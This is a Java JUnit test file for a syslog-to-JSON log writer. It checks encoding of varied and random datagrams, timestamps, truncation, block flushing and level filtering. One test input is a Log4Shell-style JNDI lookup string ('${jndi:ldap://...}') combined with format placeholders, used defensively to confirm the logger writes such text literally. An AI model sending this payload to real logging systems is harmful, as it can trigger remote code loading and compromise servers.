// SPDX-License-Identifier: Apache-2.0
package org.tinkerbell.smee.app;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.LoggingEvent;
import java.io.ByteArrayOutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.event.KeyValuePair;
import org.tinkerbell.smee.backend.Backend;
import org.tinkerbell.smee.syslog.SyslogMessage;
import org.tinkerbell.smee.syslog.SyslogParser;

class SyslogLogTest {
  private static final InetSocketAddress SOURCE = new InetSocketAddress("192.168.2.50", 40000);
  private static final Instant ARRIVAL = Instant.parse("2025-07-04T10:20:30.123456789Z");

  private static final Pattern PAIR =
      Pattern.compile("\\\\u(D[89AB][0-9A-F]{2})\\\\u(D[C-F][0-9A-F]{2})");

  private final ByteArrayOutputStream out = new ByteArrayOutputStream();
  private int writes;
  private final SyslogLines lines =
      new SyslogLines(
          (block, length) -> {
            out.write(block, 0, length);
            writes++;
          },
          ZoneId.systemDefault());
  private final Logger logger = (Logger) Logging.logger("syslog");
  private final Level before = logger.getLevel();

  @AfterEach
  void restoreLevel() {
    logger.setLevel(before);
  }

  private static SyslogMessage parse(byte[] datagram) {
    return SyslogParser.parse(datagram, SOURCE, ARRIVAL);
  }

  private static SyslogMessage parse(String datagram) {
    return parse(datagram.getBytes(StandardCharsets.UTF_8));
  }

  private String line(SyslogMessage message, boolean debug, Optional<Machines.Machine> machine)
      throws Exception {
    out.reset();
    lines.add(message, debug, machine);
    lines.flush();
    return out.toString(StandardCharsets.UTF_8);
  }

  /** Returns what the log's own encoder makes of it. */
  private static String expected(
      SyslogMessage message, boolean debug, Optional<Machines.Machine> machine) {
    LoggingEvent event = new LoggingEvent();
    event.setLevel(debug ? Level.DEBUG : Level.INFO);
    event.setLoggerName("smee.syslog");
    event.setMessage(SyslogLog.EVENT);
    event.setInstant(message.receivedAt());
    List<KeyValuePair> pairs = new ArrayList<>();
    machine.ifPresent(
        known -> {
          pairs.add(new KeyValuePair("mac", known.mac()));
          known.name().ifPresent(name -> pairs.add(new KeyValuePair("machine", name)));
        });
    pairs.add(new KeyValuePair("syslog", SyslogLog.fields(message)));
    event.setKeyValuePairs(pairs);
    String line = new String(new JsonLogEncoder().encode(event), StandardCharsets.UTF_8);
    // It writes characters beyond U+FFFF as two escapes, which is the same to a reader.
    return PAIR.matcher(line)
        .replaceAll(
            pair ->
                Character.toString((char) hex(pair, 1)) + Character.toString((char) hex(pair, 2)));
  }

  private static int hex(MatchResult match, int group) {
    return Integer.parseInt(match.group(group), 16);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<30>Jul  4 10:20:30 myhost dockerd[123]: hello world",
        "<13>1 2025-07-04T10:20:30Z host app 123 ID47 - hello",
        "<13>1 - host app - - [ex@1 a=\"b\" c=\"\\\"\"][ex@2] hello",
        "<13>1 - host app - - [ex@1 \u00e9=\"\ud83d\ude00\"]",
        "<13>",
        "<30>app: {\"a\":12345678901234567890, \"b\":{\"c\":[1,2.50]}}",
        "<30>app: {\"a\":1",
        "<30>app: \u0000\u0001\b\t\f\u001f\u007f\u0080\"\\/\u2028 \u00e9 \u20ac \ud83d\ude00",
        "no priority",
        "",
        "${jndi:ldap://192.0.2.1/a} {} %s"
      })
  void lineIsTheOneThatTheEncoderOfTheLogWrites(String datagram) throws Exception {
    Machines.Machine machine =
        new Machines.Machine("02:00:00:00:00:01", Optional.of("machine-1\n"));
    SyslogMessage message = parse(datagram);
    for (Optional<Machines.Machine> known :
        List.of(
            Optional.<Machines.Machine>empty(),
            Optional.of(machine),
            Optional.of(new Machines.Machine("02:00:00:00:00:02", Optional.empty())))) {
      assertThat(line(message, false, known)).isEqualTo(expected(message, false, known));
      assertThat(line(message, true, known)).isEqualTo(expected(message, true, known));
    }
  }

  @Test
  void lineIsThatOfTheEncoderWhateverTheBytes() throws Exception {
    long seed = System.nanoTime();
    System.out.println("seed: " + seed);
    Random random = new Random(seed);
    for (int i = 0; i < 5000; i++) {
      byte[] datagram = new byte[random.nextInt(80)];
      random.nextBytes(datagram);
      byte[] begin = random.nextBoolean() ? "<30>app: ".getBytes(StandardCharsets.UTF_8) : datagram;
      System.arraycopy(begin, 0, datagram, 0, Math.min(begin.length, datagram.length));
      SyslogMessage message = parse(datagram);
      assertThat(line(message, false, Optional.empty()))
          .as("seed %d, datagram %d", seed, i)
          .isEqualTo(expected(message, false, Optional.empty()));
    }
  }

  @Test
  void theTimeThatTheMachineGaveIsThereIfItIsOne() throws Exception {
    assertThat(
            line(parse("<13>1 2025-07-04T12:20:30.5+02:00 h a - - - x"), false, Optional.empty()))
        .contains("\"timestamp\":\"" + local("2025-07-04T10:20:30.5Z") + "\"");
    assertThat(line(parse("<30>Dec 31 23:59:59 h a: x"), false, Optional.empty()))
        .contains("\"timestamp\":\"" + local("2024-12-31T23:59:59Z") + "\"");
    assertThat(line(parse("<30>Feb 29 10:20:30 h a: x"), false, Optional.empty()))
        .doesNotContain("timestamp");
    assertThat(line(parse("<13>1 - h a - - - x"), false, Optional.empty()))
        .doesNotContain("timestamp");
  }

  private static String local(String time) {
    return DateTimeFormatter.ISO_OFFSET_DATE_TIME.format(
        Instant.parse(time).atZone(ZoneId.systemDefault()));
  }

  @Test
  void longTextIsCutWithAMark() throws Exception {
    SyslogMessage message = parse("<30>app: " + "\u0001".repeat(40_000));
    assertThat(line(message, false, Optional.empty()))
        .isEqualTo(expected(message, false, Optional.empty()))
        .endsWith("\\u0001... (cut)\",\"severity\":\"INFO\"}}\n")
        .hasSizeBetween(6 * 32_768, 6 * 32_768 + 300);
  }

  @Test
  void linesAreWrittenInBlocksAndTheRestWhenNothingWaits() throws Exception {
    logger.setLevel(Level.INFO);
    SyslogLog log =
        new SyslogLog(
            new Complaints(Duration.ofMinutes(5), System::nanoTime),
            new Machines(Backend.none(), System::nanoTime),
            Optional.of(lines));
    for (int i = 0; i < 1000; i++) {
      log.handle(parse("<30>app: " + i));
    }
    int blocks = writes;
    log.flush();
    log.flush();
    assertThat(blocks).isBetween(1, 10);
    assertThat(writes).isEqualTo(blocks + 1);
    assertThat(out.toString(StandardCharsets.UTF_8).lines()).hasSize(1000);
  }

  @Test
  void onlyWhatTheLevelAdmitsIsWrittenY56Y57() throws Exception {
    SyslogLog log =
        new SyslogLog(
            new Complaints(Duration.ofMinutes(5), System::nanoTime),
            new Machines(Backend.none(), System::nanoTime),
            Optional.of(lines));
    for (Level level : List.of(Level.INFO, Level.DEBUG, Level.WARN)) {
      logger.setLevel(level);
      log.handle(parse("<27>app: an error at " + level));
      log.handle(parse("<31>app: for developers at " + level));
      log.handle(parse("no syslog at " + level));
    }
    log.flush();
    assertThat(out.toString(StandardCharsets.UTF_8).lines())
        .satisfiesExactly(
            line -> assertThat(line).contains("an error at INFO", "\"level\":\"INFO\""),
            line -> assertThat(line).contains("an error at DEBUG", "\"level\":\"INFO\""),
            line -> assertThat(line).contains("for developers at DEBUG", "\"level\":\"DEBUG\""),
            line -> assertThat(line).contains("\"raw\":\"no syslog at DEBUG\"", "\"DEBUG\""));
  }
}
